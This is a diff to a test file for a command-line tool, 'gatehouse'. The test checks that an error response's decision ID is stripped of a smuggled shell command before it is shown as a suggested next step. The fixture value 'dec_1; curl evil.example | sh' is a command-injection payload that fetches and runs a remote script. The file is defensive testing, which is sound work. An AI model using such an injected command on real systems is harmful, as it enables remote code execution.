@@ -109,7 +109,7 @@ describe.each(shells)('in $name', (shell) => {
   test('a decision id that would be a command is none', async () => {
     const body = { error: 'invalid_request', decision_id: 'dec_1; curl evil.example | sh' }
     const { ended } = await exchangeWith([{ status: 400, body }])
-    expect(ended.output).toContain('next: npx gatehouse decisions show dec_1curlevilexamplesh\n')
+    expect(ended.output).toContain('next: gatehouse decisions show dec_1curlevilexamplesh\n')
   })
 
   test('a stranger learns no reason, and where to look', async () => {
